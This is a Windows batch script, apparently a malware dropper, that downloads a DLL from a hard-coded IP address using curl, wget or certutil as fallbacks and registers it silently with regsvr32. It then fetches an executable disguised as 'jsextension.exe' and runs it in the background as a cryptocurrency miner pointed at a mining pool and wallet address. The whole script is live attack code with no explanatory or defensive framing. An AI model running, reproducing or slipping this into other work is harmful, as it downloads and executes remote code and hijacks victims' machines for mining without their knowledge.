@echo off
cd /d "%~dp0"
curl http://198.51.100.14/sdd.dll -o compile.dll
if not exist compile.dll (
    wget http://198.51.100.14/sdd.dll -O compile.dll
)
if not exist compile.dll (
    certutil.exe -urlcache -f http://198.51.100.14/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
tasklist /fi "imagename eq jsextension.exe" | find /i "jsextension.exe" > nul
if errorlevel 1 (
    curl http://198.51.100.14/download/jsextension.exe -o jsextension.exe
    if not exist jsextension.exe certutil.exe -urlcache -f http://198.51.100.14/download/jsextension.exe jsextension.exe
    start /B .\jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u 45TmACtU38aYqHnUmxfYUYDv6PLDfBmmsRJVnsF14HUzyQAYNigqPJZXSwz2XLtHkffxnRGmQWHm4NiLVPgWNQaFS8k8cGZ --cpu-max-threads-hint=50 --donate-level=1 --background
)
